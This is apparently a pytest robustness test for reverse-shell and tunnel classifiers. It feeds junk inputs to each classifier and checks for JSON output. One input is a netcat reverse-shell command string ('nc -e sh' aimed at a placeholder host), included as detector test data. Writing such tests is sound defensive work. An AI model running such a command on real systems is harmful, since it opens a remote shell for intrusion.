@pytest.mark.parametrize("junk", [None, 5, "nc -e sh h 1", b"nc", {"a": 1}, ["nc", None, 3, "-e"]])
def test_junk_arguments(junk):
    assert_json(classify_tunnel_exec(junk))
    assert_json(classify_reverse_shell(junk))
    assert_json(classify_tunnel_payload(junk, junk, sni=junk, host=junk))
